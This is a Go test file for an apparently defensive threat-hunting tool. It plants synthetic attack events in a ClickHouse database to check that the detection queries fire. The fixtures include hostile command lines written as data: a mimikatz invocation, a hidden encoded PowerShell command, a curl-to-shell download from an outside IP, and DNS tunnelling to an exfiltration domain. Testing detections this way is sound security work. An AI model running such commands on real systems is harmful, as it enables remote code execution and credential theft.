package configsrc

import (
	"context"
	"fmt"
	"os"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/ClickHouse/clickhouse-go/v2"

	"github.com/hunt-runner/hunt-runner/hunt"
	"github.com/hunt-runner/hunt-runner/internal/chtest"
)

// TestExampleHunts runs every example hunt on the real engine against the schema documented in
// examples/hunts/README.md, with one planted instance of each attack among benign events: each
// enabled hunt finds exactly its pattern inside the window and nothing in the window before.
func TestExampleHunts(t *testing.T) {
	src, err := NewDir("../examples/hunts", Options{Settle: -1})
	if err != nil {
		t.Fatal(err)
	}
	set := mustLoad(t, src)
	if len(set.Problems) != 0 || len(set.Hunts) < 5 {
		t.Fatalf("examples: %d hunts, problems %v", len(set.Hunts), set.Problems)
	}
	if spray, _ := set.Get("password-spray"); len(spray.Exceptions) != 1 || spray.Exceptions[0].ID != "corp-scanners#1" {
		t.Fatalf("password-spray's shared exceptions: %+v", spray.Exceptions)
	}
	if len(set.Problems) != 0 {
		t.Fatalf("examples: %d hunts, problems %v", len(set.Hunts), set.Problems)
	}

	db := chtest.New(t)
	ctx := context.Background()
	readme, err := os.ReadFile("../examples/hunts/README.md")
	if err != nil {
		t.Fatal(err)
	}
	for _, ddl := range regexp.MustCompile(`(?s)CREATE TABLE sample\.[^;]+;`).FindAllString(string(readme), -1) {
		ddl = strings.Replace(strings.TrimSuffix(ddl, ";"), "sample.", db.Name+".", 1)
		if err := db.Conn.Exec(ctx, ddl); err != nil {
			t.Fatalf("%v\n%s", err, ddl)
		}
	}

	start := time.Date(2026, 11, 29, 10, 0, 0, 0, time.UTC)
	at := func(sec int) string { return fmt.Sprintf("toDateTime64(%d, 3, 'UTC')", start.Unix()+int64(sec)) }
	var auth, proc, dns []string
	// Benign background: every user logs in from home, common processes on many hosts.
	for i := range 40 {
		auth = append(auth, fmt.Sprintf("(%s, 'user%d', '10.0.0.%d', 'success', 'NL')", at(i*7), i%8, i))
		proc = append(proc, fmt.Sprintf("(%s, 'ws-%d', 'chrome.exe', 'explorer.exe', 'chrome.exe --type=renderer')", at(i*5), i%10))
		dns = append(dns, fmt.Sprintf("(%s, 'ws-%d', 'api.github.com', 'A', 120)", at(i*3), i%10))
	}
	for i := range 25 { // brute force: 25 failures against one account
		auth = append(auth, fmt.Sprintf("(%s, 'admin', '203.0.113.9', 'failure', 'RU')", at(60+i)))
	}
	for i := range 6 { // spray: one attempt each against 6 accounts
		auth = append(auth, fmt.Sprintf("(%s, 'user%d', '198.51.100.20', 'failure', 'BR')", at(120+i), i))
		// The corporate scanner sprays too: its findings are excepted (corp-scanners.exceptions.yaml).
		auth = append(auth, fmt.Sprintf("(%s, 'user%d', '10.20.0.5', 'failure', 'NL')", at(130+i), i))
	}
	auth = append(auth, // impossible travel: alice from NL and, 4 minutes later, from US
		fmt.Sprintf("(%s, 'alice', '10.0.0.77', 'success', 'NL')", at(10)),
		fmt.Sprintf("(%s, 'alice', '192.0.2.50', 'success', 'US')", at(250)))
	proc = append(proc,
		fmt.Sprintf("(%s, 'ws-3', 'mimikatz.exe', 'cmd.exe', 'mimikatz.exe privilege::debug')", at(30)),
		fmt.Sprintf("(%s, 'ws-4', 'powershell.exe', 'winword.exe', 'powershell.exe -nop -w hidden -enc SQBFAFgA')", at(40)),
		fmt.Sprintf("(%s, 'web-1', 'bash', 'sshd', 'bash -c \"curl -s http://198.51.100.7/x.sh | sh\"')", at(50)))
	for i := range 12 { // tunnelling: long unique labels under one domain
		dns = append(dns, fmt.Sprintf("(%s, 'ws-7', '%s.t.exfil-example.net', 'TXT', 900)", at(100+i), strings.Repeat(fmt.Sprintf("%x", 0xa0+i), 20)))
	}
	for table, rows := range map[string][]string{"auth_events": auth, "process_events": proc, "dns_events": dns} {
		if err := db.Conn.Exec(ctx, "INSERT INTO "+db.Name+"."+table+" VALUES "+strings.Join(rows, ",")); err != nil {
			t.Fatal(err)
		}
	}

	want := map[string]string{ // hunt id → first column of its findings, sorted
		"brute-force":        "203.0.113.9",
		"password-spray":     "198.51.100.20",
		"impossible-travel":  "alice",
		"rare-process":       "mimikatz.exe,powershell.exe", // seen on one host each; bash (web-1) is baseline
		"encoded-powershell": "2026-11-29 10:00:40.000",
		"curl-pipe-shell":    "2026-11-29 10:00:50.000",
		"dns-tunnelling":     "ws-7",
	}
	findings := func(h hunt.Hunt, from, to time.Time) string {
		q := strings.ReplaceAll(h.Query, "sample.", db.Name+".")
		qctx := clickhouse.Context(ctx, clickhouse.WithParameters(clickhouse.Parameters{
			"window_start": from.Format("2006-01-02 15:04:05.000"),
			"window_end":   to.Format("2006-01-02 15:04:05.000"),
		}))
		stmt := "SELECT arrayStringConcat(arraySort(groupArray(toString(tuple(*).1))), ',') FROM (" + q + ")"
		if live := h.LiveExceptions(to); len(live) > 0 {
			// The statement the runner sends: the first column of each finding it keeps.
			exc, params := ExceptionsQuery(q, live)
			all := clickhouse.Parameters{"window_start": from.Format("2006-01-02 15:04:05.000"), "window_end": to.Format("2006-01-02 15:04:05.000"),
				ParamLimit: "1000", ParamMaxFindingBytes: "100000", ParamMaxRunBytes: "1000000", ParamRowBytes: "0"}
			for k, v := range params {
				all[k] = v
			}
			qctx = clickhouse.Context(ctx, clickhouse.WithParameters(all))
			stmt = "SELECT arrayStringConcat(arraySort(groupArrayIf(JSONExtractString(hr_finding, 1), hr_exception = 0)), ',') FROM (" + exc + ")"
		}
		rows, err := db.Conn.Query(qctx, stmt)
		if err != nil {
			t.Fatalf("%s: %v\n%s", h.ID, err, q)
		}
		defer rows.Close()
		var s string
		for rows.Next() {
			if err := rows.Scan(&s); err != nil {
				t.Fatal(err)
			}
		}
		return s
	}
	for _, h := range set.Hunts {
		if !h.Enabled {
			continue
		}
		t.Run(h.ID, func(t *testing.T) {
			w, ok := want[h.ID]
			if !ok {
				t.Fatalf("no planted pattern for example %s", h.ID)
			}
			if got := findings(h, start, start.Add(10*time.Minute)); got != w {
				t.Errorf("in window: findings %q, want %q", got, w)
			}
			if got := findings(h, start.Add(-time.Hour), start); got != "" {
				t.Errorf("before window: findings %q, want none", got)
			}
		})
	}
}
